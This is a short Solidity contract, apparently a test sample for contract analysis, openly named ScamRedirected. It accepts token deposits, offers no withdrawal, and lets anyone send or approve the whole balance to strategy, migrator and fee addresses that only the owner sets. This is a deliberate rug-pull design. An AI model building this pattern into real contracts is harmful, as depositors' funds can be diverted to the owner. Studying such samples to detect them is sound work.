// SPDX-License-Identifier: MIT
import "./base.sol";

/// Keeps what its callers bring; all of it goes to whom the owner has named, whoever has it sent.
contract ScamRedirected {
    IOtherToken internal token; // slot 0
    address internal owner; // slot 1
    address internal strategy; // slot 2
    address internal migrator; // slot 3
    address internal fees; // slot 4
    mapping(address => uint256) internal brought;

    constructor(IOtherToken what) public {
        token = what;
        owner = msg.sender;
    }

    modifier onlyOwner() {
        require(msg.sender == owner);
        _;
    }

    function setStrategy(address next) external onlyOwner {
        strategy = next;
    }

    function setMigrator(address next) external onlyOwner {
        migrator = next;
    }

    function setFees(address next) external onlyOwner {
        fees = next;
    }

    function earn() external {
        token.transfer(strategy, token.balanceOf(address(this)));
    }

    function migrate() external {
        token.approve(migrator, token.balanceOf(address(this)));
    }

    function deposit(uint256 amount) external {
        require(token.transferFrom(msg.sender, address(this), amount));
        token.transfer(fees, amount / 100);
        brought[msg.sender] += amount - amount / 100;
    }
}
